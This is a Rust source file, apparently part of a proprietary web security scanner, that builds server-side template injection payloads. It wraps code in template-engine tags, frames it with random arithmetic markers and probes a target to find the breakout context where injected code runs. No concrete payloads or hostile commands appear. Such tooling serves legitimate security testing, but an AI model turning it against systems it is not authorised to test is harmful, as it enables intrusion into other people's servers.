// Copyright (c) 2025 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Payload Builder
 * Renders expression and statement-block payloads, frames them with
 * arithmetic markers and discovers the breakout context of the reflection
 *
 * @copyright 2025 Bountyy Oy
 * @license Proprietary
 */

use crate::context::{Context, ContextCatalog, MAX_NESTING_LEVEL};
use crate::engines::{EngineProfile, Slot};
use crate::errors::{ExploitError, ExploitResult};
use crate::oracle::InjectionOracle;
use crate::tokens::random_int;
use tracing::{debug, info};

/// Digits of each marker addend
const MARKER_DIGITS: u32 = 6;
/// Digits of each sentinel factor
const SENTINEL_DIGITS: u32 = 4;

/// A payload ready to send, plus what its framing markers render to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FramedPayload {
    pub text: String,
    header: String,
    trailer: String,
}

impl FramedPayload {
    /// Text between the first rendered header and the last rendered trailer.
    ///
    /// `None` means the markers never rendered: the payload was reflected
    /// verbatim, rejected, or broke the template.
    pub fn extract<'a>(&self, rendered: &'a str) -> Option<&'a str> {
        let start = rendered.find(&self.header)? + self.header.len();
        let end = rendered[start..].rfind(&self.trailer)? + start;
        Some(&rendered[start..end])
    }
}

/// Builds payloads for one engine, optionally bound to a resolved context.
#[derive(Debug, Clone)]
pub struct PayloadBuilder {
    profile: &'static EngineProfile,
    context: Option<Context>,
}

impl PayloadBuilder {
    pub fn new(profile: &'static EngineProfile) -> Self {
        Self {
            profile,
            context: None,
        }
    }

    pub fn with_context(mut self, context: Context) -> Self {
        self.context = Some(context);
        self
    }

    pub fn profile(&self) -> &'static EngineProfile {
        self.profile
    }

    pub fn context(&self) -> Option<&Context> {
        self.context.as_ref()
    }

    /// Wrap `fragment` in the engine's plain-output placeholder
    pub fn render_expression(&self, fragment: &str) -> String {
        self.profile.expression_tag.wrap(fragment)
    }

    /// Wrap `fragment` in the engine's statement-block markers
    pub fn render_statement_block(&self, fragment: &str) -> String {
        self.profile.block_tag.wrap(fragment)
    }

    /// Run `code` in a statement block, then print the engine's output variable
    pub fn render_captured(&self, code: &str) -> String {
        let mut out = self.render_statement_block(code);
        out.push_str(&self.render_expression(self.profile.code.output_var));
        out
    }

    /// Substitute slots into a code template of this builder's engine
    pub fn code(&self, template: &str, slots: &[(&str, Slot<'_>)]) -> String {
        self.profile.fill(template, slots)
    }

    /// Frame `body` with markers, inside the bound context if there is one
    pub fn frame(&self, body: &str) -> FramedPayload {
        match self.context {
            Some(context) => self.frame_in(&context, body),
            None => self.frame_bare(body),
        }
    }

    /// Frame `body` and apply the breakout of `context`
    pub fn frame_in(&self, context: &Context, body: &str) -> FramedPayload {
        let bare = self.frame_bare(body);
        FramedPayload {
            text: context.enclose(&bare.text),
            ..bare
        }
    }

    fn frame_bare(&self, body: &str) -> FramedPayload {
        let (header_expr, header) = self.marker();
        let (trailer_expr, trailer) = self.marker();
        FramedPayload {
            text: format!("{}{}{}", header_expr, body, trailer_expr),
            header,
            trailer,
        }
    }

    /// Rendered-expression and expected text of one random arithmetic marker
    fn marker(&self) -> (String, String) {
        let a = random_int(MARKER_DIGITS);
        let b = random_int(MARKER_DIGITS);
        let expr = self.code(
            self.profile.code.marker,
            &[("a", Slot::Number(a)), ("b", Slot::Number(b))],
        );
        (self.render_expression(&expr), (a + b).to_string())
    }

    /// Probe the catalog cheapest-first and bind the first context whose
    /// sentinel computes correctly.
    pub async fn resolve_context(
        &mut self,
        oracle: &dyn InjectionOracle,
        catalog: &ContextCatalog,
        max_level: u8,
    ) -> ExploitResult<Context> {
        if let Some(context) = self.context {
            return Ok(context);
        }

        let max_level = max_level.min(MAX_NESTING_LEVEL);
        let mut attempts = 0;
        let mut transport_failures = 0;
        let mut last_failure = String::new();

        for candidate in catalog.up_to_level(max_level) {
            attempts += 1;

            let a = random_int(SENTINEL_DIGITS);
            let b = random_int(SENTINEL_DIGITS);
            let sentinel = self.code(
                self.profile.code.sentinel,
                &[("a", Slot::Number(a)), ("b", Slot::Number(b))],
            );
            let payload = self.frame_in(candidate, &self.render_captured(&sentinel));
            let expected = (a * b).to_string();

            let response = oracle.invoke(&payload.text).await;
            if !response.ok {
                transport_failures += 1;
                last_failure = response.text;
                debug!(
                    level = candidate.nesting_level,
                    prefix = ?candidate.breakout_prefix,
                    "[SSTI] Context probe failed at transport level"
                );
                continue;
            }

            if payload.extract(&response.text) == Some(expected.as_str()) {
                info!(
                    "[SSTI] Resolved {} context at level {} with prefix {:?}",
                    self.profile.name, candidate.nesting_level, candidate.breakout_prefix
                );
                self.context = Some(*candidate);
                return Ok(*candidate);
            }
        }

        if attempts > 0 && transport_failures == attempts {
            return Err(ExploitError::OracleUnreachable {
                reason: last_failure,
            });
        }

        Err(ExploitError::ContextUnresolved {
            engine: self.profile.name.to_string(),
            attempts,
        })
    }
}
